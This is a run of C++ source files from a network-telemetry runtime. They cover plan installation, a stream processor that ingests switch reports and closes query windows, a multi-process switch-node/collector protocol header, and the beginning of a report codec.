      // Batch-hash the shard's keys (8 per AVX2 lane-pass), then probe with
      // the table's first chunk prefetched a few keys ahead — the fold
      // walks the index without stalling on its cache misses.
      hashes.resize(n);
      query::hash_tuples({part.keys.data(), n}, hashes.data());
      for (std::size_t j = 0; j < n; ++j) {
        if (j + 4 < n) merged.prefetch(hashes[j + 4]);
        auto [slot, inserted] =
            merged.try_emplace(std::move(part.keys[j]), hashes[j], part.values[j]);
        if (!inserted) *slot = pisa::apply_reduce(fn, *slot, part.values[j]);
      }
      part.keys.clear();
      part.values.clear();
    }
    if (logical == 0) continue;
    aggregates.clear();
    aggregates.reserve(merged.size());
    for (const auto& e : merged.entries()) {
      aggregates.push_back(pipe.shape_polled(e.key, e.value));
    }
    const auto& o = pipe.options();
    sp_->ingest_polled(o.qid, o.level, o.source_index, pipe.poll_entry_op(), logical,
                       aggregates);
  }
}

void Fleet::apply_plan(planner::Plan plan) {
  // Runs on the driver thread right after do_close_window, so every ring
  // is drained — EXCEPT a quarantined shard whose worker is still mid-
  // resync and touching its switch. Wait those out: after resync_to
  // returns to zero with drained == enqueued the worker can only sleep or
  // poll empty rings, so the switches are driver-owned for the swap.
  for (std::size_t i = 0; i < shards_.size(); ++i) {
    Shard& s = *shards_[i];
    while (s.resync_to.load(std::memory_order_acquire) != 0 ||
           s.drained.load(std::memory_order_acquire) != s.enqueued) {
      if (!workers_.empty()) wake(*workers_[i % workers_.size()]);
      driver_backoff_.pause();
    }
    driver_backoff_.reset();
  }
  // Tear down the SP before replacing plan_ (it holds pointers into it),
  // then reinstall every shard against the new plan. Pipeline reuse is
  // per shard: each shard hands its own compiled pipelines back and keeps
  // the unchanged ones (runtime state reset). Register-pressure faults are
  // not re-applied — the swap installs clean, like an auto-replan.
  sp_.reset();
  for (auto& shard : shards_) {
    PipelineBuild build = build_pipelines(plan, shard->sw->release_pipelines(), {});
    const std::string err = shard->sw->install(std::move(build.pipelines), build.resources);
    assert(err.empty() && "plan does not fit the switch it was planned for");
    (void)err;
  }
  plan_ = std::move(plan);
  sp_ = std::make_unique<StreamProcessor>(plan_);
  raw_mirror_ = sp_->wants_raw_mirror();
}

}  // namespace sonata::runtime
