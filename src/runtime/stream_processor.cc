#include "runtime/stream_processor.h"

#include <cassert>

#include "obs/journal.h"
#include "util/flat_table.h"

namespace sonata::runtime {

using planner::PlannedPipeline;
using planner::PlannedQuery;
using query::Tuple;

void Emitter::register_query(query::QueryId qid) {
  if (qid >= qid_to_index_.size()) qid_to_index_.resize(qid + 1U, kUnregistered);
  if (qid_to_index_[qid] != kUnregistered) return;
  qid_to_index_[qid] = static_cast<std::uint32_t>(stats_.size());
  stats_.emplace_back(qid, PerQuery{});
}

void Emitter::record(const pisa::EmitRecord& rec) {
  ++total_;
  if (rec.qid >= qid_to_index_.size() || qid_to_index_[rec.qid] == kUnregistered) return;
  auto& s = stats_[qid_to_index_[rec.qid]].second;
  ++s.tuples;
  if (rec.kind == pisa::EmitRecord::Kind::kOverflow) ++s.overflows;
}

PhaseBreakdown to_breakdown(const obs::PhaseAccum& accum) noexcept {
  return {.ingest_nanos = accum.nanos(obs::Phase::kIngest),
          .compute_nanos = accum.nanos(obs::Phase::kCompute),
          .merge_nanos = accum.nanos(obs::Phase::kMerge),
          .poll_nanos = accum.nanos(obs::Phase::kPoll),
          .close_nanos = accum.nanos(obs::Phase::kClose),
          .total_nanos = accum.total_nanos()};
}

StreamProcessor::StreamProcessor(const planner::Plan& plan) : plan_(&plan) {
  auto& reg = obs::Registry::global();
  for (const PlannedQuery& pq : plan_->queries) {
    QueryState qs;
    qs.pq = &pq;
    emitter_.register_query(pq.base->id());
    const std::string qid_str = std::to_string(pq.base->id());
    {
      const std::pair<std::string_view, std::string> labels[] = {{"qid", qid_str}};
      qs.winners_counter = &reg.counter(obs::labeled("sonata_sp_winners_total", labels));
    }
    for (const int level : pq.chain) {
      LevelExec le;
      le.level = level;
      le.exec = std::make_unique<stream::QueryExecutor>(pq.exec_queries.at(level));
      const std::pair<std::string_view, std::string> labels[] = {
          {"qid", qid_str}, {"level", std::to_string(level)}};
      le.in_counter = &reg.counter(obs::labeled("sonata_sp_tuples_in_total", labels));
      le.out_counter = &reg.counter(obs::labeled("sonata_sp_tuples_out_total", labels));
      le.state_gauge = &reg.gauge(obs::labeled("sonata_sp_reduce_state", labels));
      le.state_bytes_gauge = &reg.gauge(obs::labeled("sonata_sp_state_bytes", labels));
      le.state_error_gauge = &reg.gauge(obs::labeled("sonata_sp_state_error_bound", labels));
      le.latency_hist = &reg.histogram(obs::labeled("sonata_report_latency_ns", labels),
                                       LatencyTally::kBounds);
      qs.levels.push_back(std::move(le));
    }
    queries_.push_back(std::move(qs));
    for (const PlannedPipeline& p : pq.pipelines) {
      if (p.partition == 0) raw_feeds_.push_back({p.qid, p.level, p.source_index});
    }
  }
}

bool StreamProcessor::plan_wants_raw_mirror(const planner::Plan& plan) noexcept {
  if (!plan.raw_mirror) return false;
  // Mirrors the constructor's raw_feeds_ scan: any SP-kept pipeline
  // (partition == 0) consumes the raw mirror.
  for (const PlannedQuery& pq : plan.queries) {
    for (const PlannedPipeline& p : pq.pipelines) {
      if (p.partition == 0) return true;
    }
  }
  return false;
}

const PlannedQuery* StreamProcessor::planned(query::QueryId qid) const noexcept {
  for (const auto& qs : queries_) {
    if (qs.pq->base->id() == qid) return qs.pq;
  }
  return nullptr;
}

int StreamProcessor::remap_source(query::QueryId qid, int level, int source_index) const {
  if (source_index < 0) return -1;
  if (const PlannedQuery* pq = planned(qid)) {
    const auto it = pq->source_remap.find(level);
    if (it == pq->source_remap.end()) return source_index;
    // Bounds-checked: a corrupted wire record can carry any source index.
    if (static_cast<std::size_t>(source_index) >= it->second.size()) return -1;
    return it->second[static_cast<std::size_t>(source_index)];
  }
  return source_index;
}

StreamProcessor::LevelExec* StreamProcessor::level_exec(query::QueryId qid, int level) noexcept {
  for (auto& qs : queries_) {
    if (qs.pq->base->id() != qid) continue;
    for (auto& le : qs.levels) {
      if (le.level == level) return &le;
    }
  }
  return nullptr;
}

stream::QueryExecutor& StreamProcessor::executor(query::QueryId qid, int level) {
  LevelExec* le = level_exec(qid, level);
  assert(le && "no executor for (qid, level)");
  return *le->exec;
}

bool StreamProcessor::deliver(const pisa::EmitRecord& rec) {
  emitter_.record(rec);
  if (rec.kind == pisa::EmitRecord::Kind::kKeyReport) {
    // Key reports only notify the SP which registers to poll; the polled
    // aggregates are ingested at window end.
    return true;
  }
  LevelExec* le = level_exec(rec.qid, rec.level);
  if (!le) return false;
  const int src_idx = remap_source(rec.qid, rec.level, rec.source_index);
  if (src_idx < 0 || static_cast<std::size_t>(src_idx) >= le->exec->source_count()) return false;
  ++le->tuples_in;
  if (delivery_now_ != 0 && rec.ingest_ns != 0) {
    le->latency.note(delivery_now_ >= rec.ingest_ns ? delivery_now_ - rec.ingest_ns : 0);
  }
  le->exec->ingest(src_idx, rec.tuple, rec.op_index);
  return true;
}

bool StreamProcessor::deliver(pisa::EmitRecord&& rec) {
  emitter_.record(rec);
  if (rec.kind == pisa::EmitRecord::Kind::kKeyReport) return true;
  LevelExec* le = level_exec(rec.qid, rec.level);
  if (!le) return false;
  const int src_idx = remap_source(rec.qid, rec.level, rec.source_index);
  if (src_idx < 0 || static_cast<std::size_t>(src_idx) >= le->exec->source_count()) return false;
  ++le->tuples_in;
  if (delivery_now_ != 0 && rec.ingest_ns != 0) {
    le->latency.note(delivery_now_ >= rec.ingest_ns ? delivery_now_ - rec.ingest_ns : 0);
  }
  le->exec->ingest(src_idx, std::move(rec.tuple), rec.op_index);
  return true;
}

void StreamProcessor::deliver_batch(std::span<pisa::EmitRecord> recs) {
  for (pisa::EmitRecord& rec : recs) deliver(std::move(rec));
}

void StreamProcessor::deliver_raw(const Tuple& source) {
  for (const auto& feed : raw_feeds_) {
    const int src_idx = remap_source(feed.qid, feed.level, feed.source_index);
    if (src_idx < 0) continue;
    LevelExec& le = *level_exec(feed.qid, feed.level);  // raw feeds come from the plan
    ++le.tuples_in;
    le.exec->ingest(src_idx, source, 0);
  }
}

void StreamProcessor::deliver_raw_batch(std::span<Tuple> sources) {
  // Resolve the active feeds once per batch; the common single-feed case
  // then moves the whole buffer through the chain with zero tuple copies.
  struct Active {
    LevelExec* le;
    int src_idx;
  };
  std::vector<Active> active;
  active.reserve(raw_feeds_.size());
  for (const auto& feed : raw_feeds_) {
    const int src_idx = remap_source(feed.qid, feed.level, feed.source_index);
    if (src_idx >= 0) active.push_back({level_exec(feed.qid, feed.level), src_idx});
  }
  if (active.empty()) return;
  for (std::size_t f = 0; f + 1 < active.size(); ++f) {
    active[f].le->tuples_in += sources.size();
    for (const Tuple& t : sources) active[f].le->exec->ingest(active[f].src_idx, t, 0);
  }
  active.back().le->tuples_in += sources.size();
  active.back().le->exec->ingest_batch(active.back().src_idx, sources, 0);
}

void StreamProcessor::poll_switch(const pisa::Switch& sw) {
  for (const auto& p : sw.pipelines()) {
    if (!p->has_stateful_tail()) continue;
    const int src_idx =
        remap_source(p->options().qid, p->options().level, p->options().source_index);
    if (src_idx < 0) continue;
    LevelExec& le = *level_exec(p->options().qid, p->options().level);
    std::vector<Tuple> aggregates = p->poll_aggregates();
    le.tuples_in += aggregates.size();
    le.exec->ingest_batch(src_idx, aggregates, p->poll_entry_op());
  }
}

void StreamProcessor::ingest_polled(query::QueryId qid, int level, int source_index,
                                    std::size_t entry_op, std::uint64_t logical_tuples,
                                    std::span<Tuple> aggregates) {
  const int src_idx = remap_source(qid, level, source_index);
  if (src_idx < 0) return;
  LevelExec& le = *level_exec(qid, level);
  le.tuples_in += logical_tuples;
  le.exec->ingest_batch(src_idx, aggregates, entry_op);
}

void StreamProcessor::close_levels(WindowStats& window,
                                   std::span<pisa::Switch* const> switches) {
  // Close coarse-to-fine; each level's winner keys go into the next level's
  // dynamic filter tables on every switch and on the SP side.
  const bool obs_on = obs::enabled();
  // Dense winner table in plan order; every query gets a slot so two runs
  // of the same plan compare equal window-by-window even when a query
  // installs nothing.
  window.winners.per_query.resize(queries_.size());
  for (std::size_t qi = 0; qi < queries_.size(); ++qi) {
    window.winners.per_query[qi].qid = queries_[qi].pq->base->id();
  }
  for (std::size_t qi = 0; qi < queries_.size(); ++qi) {
    QueryState& qs = queries_[qi];
    const PlannedQuery& pq = *qs.pq;
    for (std::size_t li = 0; li < qs.levels.size(); ++li) {
      LevelExec& le = qs.levels[li];
      if (obs_on) {
        // Reduce-state peak for the window: read before end_window clears it.
        const state::StateUsage usage = le.exec->state_usage();
        le.state_gauge->set(static_cast<std::int64_t>(usage.entries));
        le.state_bytes_gauge->set(static_cast<std::int64_t>(usage.bytes));
        le.state_error_gauge->set(static_cast<std::int64_t>(usage.error_bound));
        le.in_counter->add(le.tuples_in);
        if (usage.error_bound > 0) {
          obs::Journal::global().emit(obs::EventType::kSketchBoundReport, window.window_index,
                                      pq.base->id(), 0,
                                      static_cast<std::int64_t>(usage.entries),
                                      static_cast<std::int64_t>(usage.bytes),
                                      static_cast<std::int64_t>(usage.error_bound),
                                      pq.base->name());
        }
        if (le.latency.n > 0) {
          // One merge per window per (query, level): the whole tally lands
          // in the registry histogram with two shard-local loops.
          le.latency_hist->merge_counts(le.latency.counts, le.latency.sum);
        }
      }
      le.latency.reset();
      le.tuples_in = 0;
      std::vector<Tuple> outputs = le.exec->end_window();
      if (obs_on) le.out_counter->add(outputs.size());
      const bool finest = li + 1 == qs.levels.size();
      if (finest) {
        window.results.push_back({pq.base->id(), pq.base->name(), std::move(outputs)});
        continue;
      }
      // Winner keys: the refinement key column of this level's output.
      const int level = qs.levels[li].level;
      const int next = qs.levels[li + 1].level;
      const auto& schema = pq.exec_queries.at(level).root()->output_schema();
      const std::string& key_col =
          pq.keys.empty() ? std::string{} : pq.keys.front().key_column;
      const auto idx = schema.index_of(key_col);
      std::vector<Tuple> winners;
      if (idx) {
        util::FlatSet dedup;
        dedup.reserve(outputs.size());
        for (const Tuple& out : outputs) {
          Tuple key;
          key.values.push_back(out.at(*idx));
          if (dedup.insert(key)) winners.push_back(std::move(key));
        }
      }
      // Install on both sides: every source's next-level pipeline.
      for (const auto& p : pq.pipelines) {
        if (p.level != next || p.filter_table.empty()) continue;
        for (pisa::Switch* sw : switches) sw->update_filter_entries(p.filter_table, winners);
        if (winner_sink_) winner_sink_(p.filter_table, winners);
        qs.levels[li + 1].exec->set_filter_entries(p.filter_table, winners);
      }
      if (obs_on) qs.winners_counter->add(winners.size());
      auto& installed = window.winners.per_query[qi].keys;
      installed.insert(installed.end(), winners.begin(), winners.end());
    }
  }
}

}  // namespace sonata::runtime
