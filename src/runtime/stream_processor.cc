#include "runtime/stream_processor.h"

#include <cassert>
#include <unordered_set>

namespace sonata::runtime {

using planner::PlannedPipeline;
using planner::PlannedQuery;
using query::Tuple;

void Emitter::record(const pisa::EmitRecord& rec) {
  ++total_;
  auto& s = stats_[rec.qid];
  ++s.tuples;
  if (rec.kind == pisa::EmitRecord::Kind::kOverflow) ++s.overflows;
}

StreamProcessor::StreamProcessor(const planner::Plan& plan) : plan_(&plan) {
  for (const PlannedQuery& pq : plan_->queries) {
    QueryState qs;
    qs.pq = &pq;
    for (const int level : pq.chain) {
      LevelExec le;
      le.level = level;
      le.exec = std::make_unique<stream::QueryExecutor>(pq.exec_queries.at(level));
      qs.levels.push_back(std::move(le));
    }
    queries_.push_back(std::move(qs));
    for (const PlannedPipeline& p : pq.pipelines) {
      if (p.partition == 0) raw_feeds_.push_back({p.qid, p.level, p.source_index});
    }
  }
}

const PlannedQuery* StreamProcessor::planned(query::QueryId qid) const noexcept {
  for (const auto& qs : queries_) {
    if (qs.pq->base->id() == qid) return qs.pq;
  }
  return nullptr;
}

int StreamProcessor::remap_source(query::QueryId qid, int level, int source_index) const {
  if (const PlannedQuery* pq = planned(qid)) {
    const auto it = pq->source_remap.find(level);
    if (it == pq->source_remap.end()) return source_index;
    return it->second.at(static_cast<std::size_t>(source_index));
  }
  return source_index;
}

stream::QueryExecutor& StreamProcessor::executor(query::QueryId qid, int level) {
  for (auto& qs : queries_) {
    if (qs.pq->base->id() != qid) continue;
    for (auto& le : qs.levels) {
      if (le.level == level) return *le.exec;
    }
  }
  assert(false && "no executor for (qid, level)");
  __builtin_unreachable();
}

void StreamProcessor::deliver(const pisa::EmitRecord& rec) {
  emitter_.record(rec);
  if (rec.kind == pisa::EmitRecord::Kind::kKeyReport) {
    // Key reports only notify the SP which registers to poll; the polled
    // aggregates are ingested at window end.
    return;
  }
  const int src_idx = remap_source(rec.qid, rec.level, rec.source_index);
  if (src_idx < 0) return;
  executor(rec.qid, rec.level).ingest(src_idx, rec.tuple, rec.op_index);
}

void StreamProcessor::deliver(pisa::EmitRecord&& rec) {
  emitter_.record(rec);
  if (rec.kind == pisa::EmitRecord::Kind::kKeyReport) return;
  const int src_idx = remap_source(rec.qid, rec.level, rec.source_index);
  if (src_idx < 0) return;
  executor(rec.qid, rec.level).ingest(src_idx, std::move(rec.tuple), rec.op_index);
}

void StreamProcessor::deliver_batch(std::span<pisa::EmitRecord> recs) {
  for (pisa::EmitRecord& rec : recs) deliver(std::move(rec));
}

void StreamProcessor::deliver_raw(const Tuple& source) {
  for (const auto& feed : raw_feeds_) {
    const int src_idx = remap_source(feed.qid, feed.level, feed.source_index);
    if (src_idx >= 0) executor(feed.qid, feed.level).ingest(src_idx, source, 0);
  }
}

void StreamProcessor::deliver_raw_batch(std::span<Tuple> sources) {
  // Resolve the active feeds once per batch; the common single-feed case
  // then moves the whole buffer through the chain with zero tuple copies.
  struct Active {
    stream::QueryExecutor* exec;
    int src_idx;
  };
  std::vector<Active> active;
  active.reserve(raw_feeds_.size());
  for (const auto& feed : raw_feeds_) {
    const int src_idx = remap_source(feed.qid, feed.level, feed.source_index);
    if (src_idx >= 0) active.push_back({&executor(feed.qid, feed.level), src_idx});
  }
  if (active.empty()) return;
  for (std::size_t f = 0; f + 1 < active.size(); ++f) {
    for (const Tuple& t : sources) active[f].exec->ingest(active[f].src_idx, t, 0);
  }
  active.back().exec->ingest_batch(active.back().src_idx, sources, 0);
}

void StreamProcessor::poll_switch(const pisa::Switch& sw) {
  for (const auto& p : sw.pipelines()) {
    if (!p->has_stateful_tail()) continue;
    const int src_idx =
        remap_source(p->options().qid, p->options().level, p->options().source_index);
    if (src_idx < 0) continue;
    auto& exec = executor(p->options().qid, p->options().level);
    std::vector<Tuple> aggregates = p->poll_aggregates();
    exec.ingest_batch(src_idx, aggregates, p->poll_entry_op());
  }
}

void StreamProcessor::close_levels(WindowStats& window,
                                   std::span<pisa::Switch* const> switches) {
  // Close coarse-to-fine; each level's winner keys go into the next level's
  // dynamic filter tables on every switch and on the SP side.
  for (auto& qs : queries_) {
    const PlannedQuery& pq = *qs.pq;
    for (std::size_t li = 0; li < qs.levels.size(); ++li) {
      std::vector<Tuple> outputs = qs.levels[li].exec->end_window();
      const bool finest = li + 1 == qs.levels.size();
      if (finest) {
        window.results.push_back({pq.base->id(), pq.base->name(), std::move(outputs)});
        continue;
      }
      // Winner keys: the refinement key column of this level's output.
      const int level = qs.levels[li].level;
      const int next = qs.levels[li + 1].level;
      const auto& schema = pq.exec_queries.at(level).root()->output_schema();
      const std::string& key_col =
          pq.keys.empty() ? std::string{} : pq.keys.front().key_column;
      const auto idx = schema.index_of(key_col);
      std::vector<Tuple> winners;
      if (idx) {
        std::unordered_set<Tuple, query::TupleHasher> dedup;
        for (const Tuple& out : outputs) {
          Tuple key;
          key.values.push_back(out.at(*idx));
          if (dedup.insert(key).second) winners.push_back(std::move(key));
        }
      }
      // Install on both sides: every source's next-level pipeline.
      for (const auto& p : pq.pipelines) {
        if (p.level != next || p.filter_table.empty()) continue;
        for (pisa::Switch* sw : switches) sw->update_filter_entries(p.filter_table, winners);
        qs.levels[li + 1].exec->set_filter_entries(p.filter_table, winners);
      }
      auto& installed = window.winners[pq.base->id()];
      installed.insert(installed.end(), winners.begin(), winners.end());
    }
  }
}

}  // namespace sonata::runtime
