// Multi-process deployment: switch-node and collector roles over a real
// wire (ROADMAP item 2; `sonata_run --role switch|collector`).
//
// The in-process Fleet keeps its shards and its StreamProcessor in one
// address space and merges at a window barrier. This layer cuts that
// barrier across processes: N switch-node processes each own the shards
// `s` with `s % nodes == node_index`, run the identical compiled switch
// programs against the shared trace, and ship their window contribution
// to a collector process over a ReportTransport (shm ring / UDP / TCP).
// The collector buffers per-shard contributions, replays the Fleet's
// exact merge order (ascending shard index: records, raw mirror,
// combined register partials), closes the window through the one shared
// StreamProcessor, and feeds the winner installs back so every node's
// switches enter the next window with the same dynamic-filter state the
// in-process close would have installed.
//
// Determinism contract: every role derives the identical plan from the
// same seed/queries/training traffic (EngineBuilder::plan_only), every
// switch node replays the identical generated trace (filtering to its
// owned shards), and the collector merges in shard order regardless of
// arrival interleaving — so distributed windows are bit-identical to the
// in-process Fleet's for lossless transports. The one accepted divergence
// is WindowStats::control_update_millis: winner installs land on the
// switch nodes during the *next* window's barrier wait, so the collector
// reports 0 instead of the modelled per-window install latency.
//
// Window barrier protocol (stop-and-wait, per node):
//
//   switch:    kRecords* kRaw* kPartial*  (per owned shard, ascending)
//              kWindowEnd (seq = next data seq; retransmitted on timeout)
//   collector: ... waits for every node's kWindowEnd, closes the window,
//              kWinners* + kWindowAck to every node (cached: a duplicate
//              kWindowEnd re-sends the cached feedback bundle)
//   switch:    applies the winner installs to its switches, next window.
//
// Loss accounting (UDP): injected or real frame drops consume a sequence
// number, the collector's reassembly window counts every gap exactly once
// at the kWindowEnd flush, and a window that lost frames closes partial
// with the losing node's shard bits cleared from contribution_mask —
// PR 5's partial-window machinery, now fed by a real wire. Counters
// surface as sonata_net_{lost,reordered,resynced,duplicates}_total.
#pragma once

#include <cstddef>
#include <cstdint>
#include <functional>
#include <memory>
#include <optional>
#include <span>
#include <string>
#include <utility>
#include <vector>

#include "fault/fault.h"
#include "net/packet.h"
#include "net/transport/transport.h"
#include "planner/planner.h"
#include "runtime/plan_install.h"
#include "runtime/stream_processor.h"
#include "util/rng.h"

namespace sonata::runtime {

// Bumped on any incompatible payload-codec change; checked at handshake.
inline constexpr std::uint16_t kDistributedProto = 1;

struct DistributedConfig {
  std::size_t switches = 2;      // total data-plane shards across all nodes
  std::uint16_t nodes = 1;       // switch-node process count
  std::uint16_t node_index = 0;  // this process's index (switch role only)
  std::size_t batch = 256;       // data-path handoff granularity
  // Frame-level fault injection (switch role): drop/dup/reorder act on
  // whole data frames (a dropped frame consumes its sequence number, so
  // the collector's gap accounting counts it exactly once);
  // corrupt/truncate mutate one encoded record inside a kRecords payload,
  // mirroring the in-process WireChannel's per-record semantics.
  // register_shrink/hash_seed apply to the node's pipeline build.
  fault::FaultSpec faults;
};

// The data-plane half: owns this process's shards, replays the trace
// window by window, ships each window's contribution, and applies the
// collector's winner feedback. Single-threaded by design — process-level
// parallelism replaces the Fleet's worker threads.
class SwitchNode {
 public:
  struct Stats {
    std::uint64_t windows = 0;
    std::uint64_t packets = 0;        // packets routed to owned shards
    std::uint64_t records_sent = 0;   // EmitRecords shipped
    std::uint64_t raw_sent = 0;       // raw-mirror tuples shipped
    std::uint64_t partial_entries_sent = 0;
    std::uint64_t winner_installs = 0;
    std::uint64_t tx_dropped = 0;     // injected frame drops
    std::uint64_t tx_duplicated = 0;
    std::uint64_t tx_reordered = 0;
    std::uint64_t corrupted = 0;      // injected record corruptions
    std::uint64_t truncated = 0;
  };

  // `plan` must outlive the node (the caller owns the PlannedSetup).
  SwitchNode(const planner::Plan& plan, DistributedConfig cfg,
             std::unique_ptr<net::transport::ReportTransport> transport);
  ~SwitchNode();

  // Connect + handshake, then replay the whole trace (window split by the
  // plan's window size, identical to TelemetryEngine::run_trace). Returns
  // "" on success or a protocol/transport error.
  [[nodiscard]] std::string run(std::span<const net::Packet> trace);

  [[nodiscard]] const Stats& stats() const noexcept { return stats_; }
  [[nodiscard]] const net::transport::TransportCounters& transport_counters() const noexcept;

 private:
  struct OwnedShard {
    std::size_t global = 0;  // shard index in the fleet-wide numbering
    std::unique_ptr<pisa::Switch> sw;
    pisa::EmitSink sink;
    std::vector<query::Tuple> raw_sources;
    std::vector<query::Tuple> scratch;  // warm tuple slots (batch staging)
    std::size_t pending = 0;
    std::uint64_t packets = 0;  // window-scoped accounting
    std::uint64_t tuples_to_sp = 0;
    std::uint64_t raw_mirror_packets = 0;
  };

  [[nodiscard]] std::string handshake();
  void ingest(const net::Packet& packet);
  void flush_shard(OwnedShard& shard);
  void process_tuples(OwnedShard& shard, std::span<query::Tuple> tuples,
                      std::uint64_t ingest_ns);
  [[nodiscard]] std::string close_window(std::uint64_t window, bool final);
  void send_records(OwnedShard& shard);
  void send_raw(OwnedShard& shard);
  void send_partials(OwnedShard& shard);
  // Records a failed data send: always warns; fatal (sticky in send_err_,
  // surfaced by close_window) on in-order transports, where a send failure
  // is never recoverable loss.
  void note_send_failure(const char* frame_kind);
  // Sequence-numbered send with frame-level fault injection; a dropped
  // frame still consumes its sequence number.
  bool send_data(net::transport::Frame f);
  bool raw_send(const net::transport::Frame& f);
  void flush_held();
  [[nodiscard]] std::string await_feedback(std::uint64_t window,
                                           const net::transport::Frame& end);
  void publish_obs();

  const planner::Plan& plan_;
  DistributedConfig cfg_;
  std::unique_ptr<net::transport::ReportTransport> transport_;
  std::vector<std::unique_ptr<OwnedShard>> shards_;  // ascending global index
  bool raw_mirror_ = false;
  std::uint64_t data_seq_ = 0;
  std::optional<net::transport::Frame> held_;  // reorder-injected frame
  util::Rng rng_;
  bool frame_faults_ = false;
  bool record_faults_ = false;
  // First fatal error from the window's send phase (oversized entry, or a
  // failed send on an in-order transport); close_window surfaces it.
  std::string send_err_;
  Stats stats_;
  std::vector<std::byte> record_scratch_;
  // Last-published cumulative values behind the add-only obs counters.
  Stats obs_pub_;
  net::transport::TransportCounters tc_pub_;
};

// The control-plane half: one StreamProcessor fed by every node's frames.
class Collector {
 public:
  struct Stats {
    std::uint64_t windows = 0;
    std::uint64_t records = 0;         // EmitRecords decoded and delivered
    std::uint64_t raw_tuples = 0;
    std::uint64_t partial_entries = 0;
    std::uint64_t decode_failures = 0; // records/tuples that failed to decode
    std::uint64_t peer_dropped = 0;    // switch-reported injected frame drops
    std::uint64_t lost_frames = 0;     // reassembly gap accounting (all sources)
  };

  using WindowFn = std::function<void(const WindowStats&)>;

  // `plan` must outlive the collector.
  Collector(const planner::Plan& plan, DistributedConfig cfg,
            std::unique_ptr<net::transport::CollectorEndpoint> endpoint);
  ~Collector();

  [[nodiscard]] std::string listen();

  // Serve until every node's final window closed (or a protocol error /
  // idle timeout). `on_window` fires once per closed window, in order.
  [[nodiscard]] std::string run(const WindowFn& on_window);

  [[nodiscard]] const Stats& stats() const noexcept { return stats_; }
  [[nodiscard]] const StreamProcessor& stream_processor() const noexcept { return *sp_; }
  [[nodiscard]] const planner::Plan& plan() const noexcept { return plan_; }

 private:
  struct NodeState {
    bool hello = false;
    bool done = false;       // final window closed
    bool end_seen = false;   // kWindowEnd for the current window
    bool final_flag = false;
    std::uint64_t packets = 0;       // current window's totals, from kWindowEnd
    std::uint64_t tuples_to_sp = 0;
    std::uint64_t raw_mirror = 0;
    std::uint64_t peer_dropped_cum = 0;
    std::uint64_t lost_baseline = 0;  // reassembly lost total at last close
    // Feedback bundle for the last closed window, re-sent on a duplicate
    // kWindowEnd (the ack or the winners were lost on the way down).
    std::vector<net::transport::Frame> feedback;
    std::uint64_t feedback_window = ~0ull;
  };
  struct ShardBuffer {
    std::vector<pisa::EmitRecord> records;
    std::vector<query::Tuple> raws;
    std::vector<pisa::CompiledSwitchQuery::PolledPartial> partials;  // per pipeline
  };

  [[nodiscard]] std::string handle(net::transport::Frame& f);
  [[nodiscard]] std::string close_current(const WindowFn& on_window);
  void combine_partials(WindowStats& ws);
  void send_feedback(NodeState& node, std::uint16_t index);
  [[nodiscard]] bool all_ended() const;
  [[nodiscard]] bool all_done() const;
  [[nodiscard]] std::uint64_t full_mask() const noexcept;
  void publish_obs();

  const planner::Plan& plan_;
  DistributedConfig cfg_;
  std::unique_ptr<net::transport::CollectorEndpoint> endpoint_;
  std::unique_ptr<StreamProcessor> sp_;
  // Compiled once for pipeline metadata only (tail reduce fn, polled-key
  // shaping, SP entry op) — never processes a packet. Built without the
  // register-pressure fault options: sizing never affects metadata.
  std::vector<std::unique_ptr<pisa::CompiledSwitchQuery>> ref_pipelines_;
  std::vector<NodeState> nodes_;
  std::vector<ShardBuffer> shards_;  // indexed by global shard
  std::vector<std::pair<std::string, std::vector<query::Tuple>>> winner_installs_;
  std::uint64_t window_counter_ = 0;
  Stats stats_;
  Stats obs_pub_;
  net::transport::TransportCounters tc_pub_;
  net::transport::ReassemblyStats rs_pub_;
};

}  // namespace sonata::runtime
