#include "runtime/report.h"

#include <cassert>
#include <cstring>
#include <string_view>

#include "util/log.h"

namespace sonata::runtime {

namespace {

// Wire limits of the report/tuple codec: the column count travels as a
// u8 and a string value's length as a u16. A value beyond either cannot
// be represented; encoding truncates (so the frame stays decodable) and
// warns, instead of silently writing a length that disagrees with the
// bytes that follow — which the peer would count as a decode failure or,
// for winner keys, abort the switch node on.
constexpr std::size_t kMaxTupleColumns = 255;
constexpr std::size_t kMaxStringBytes = 65535;

void put_u8(std::vector<std::byte>& out, std::uint8_t v) {
  out.push_back(static_cast<std::byte>(v));
}
void put_u16(std::vector<std::byte>& out, std::uint16_t v) {
  out.push_back(static_cast<std::byte>(v >> 8));
  out.push_back(static_cast<std::byte>(v & 0xff));
}
void put_u64(std::vector<std::byte>& out, std::uint64_t v) {
  for (int shift = 56; shift >= 0; shift -= 8) {
    out.push_back(static_cast<std::byte>((v >> shift) & 0xff));
  }
}

std::size_t checked_columns(std::size_t n, const char* what) {
  if (n <= kMaxTupleColumns) return n;
  assert(false && "tuple exceeds the codec's u8 column-count limit");
  SONATA_WARN("report", "%s has %zu columns; codec limit is %zu — truncating", what, n,
              kMaxTupleColumns);
  return kMaxTupleColumns;
}

void put_string(std::vector<std::byte>& out, std::string_view s, const char* what) {
  std::size_t n = s.size();
  if (n > kMaxStringBytes) {
    assert(false && "string value exceeds the codec's u16 length limit");
    SONATA_WARN("report", "%s string value is %zu bytes; codec limit is %zu — truncating", what,
                n, kMaxStringBytes);
    n = kMaxStringBytes;
  }
  put_u16(out, static_cast<std::uint16_t>(n));
  for (std::size_t i = 0; i < n; ++i) out.push_back(static_cast<std::byte>(s[i]));
}

class Reader {
 public:
  explicit Reader(std::span<const std::byte> data) : data_(data) {}
  [[nodiscard]] bool ok() const noexcept { return ok_; }
  [[nodiscard]] bool done() const noexcept { return pos_ == data_.size(); }

  std::uint8_t u8() noexcept {
    if (pos_ + 1 > data_.size()) {
      ok_ = false;
      return 0;
    }
    return static_cast<std::uint8_t>(data_[pos_++]);
  }
  std::uint16_t u16() noexcept {
    const auto hi = u8();
    return static_cast<std::uint16_t>((hi << 8) | u8());
  }
  std::uint64_t u64() noexcept {
    std::uint64_t v = 0;
    for (int i = 0; i < 8; ++i) v = (v << 8) | u8();
    return v;
  }
  std::string str(std::size_t n) noexcept {
    if (pos_ + n > data_.size()) {
      ok_ = false;
      return {};
    }
    std::string s(reinterpret_cast<const char*>(data_.data() + pos_), n);
    pos_ += n;
    return s;
  }

 private:
  std::span<const std::byte> data_;
  std::size_t pos_ = 0;
  bool ok_ = true;
};

}  // namespace

std::vector<std::byte> encode_report(const pisa::EmitRecord& record) {
  std::vector<std::byte> out;
  out.reserve(24 + record.tuple.size() * 9);
  encode_report_into(record, out);
  return out;
}

void encode_report_into(const pisa::EmitRecord& record, std::vector<std::byte>& out) {
  put_u16(out, kReportMagic);
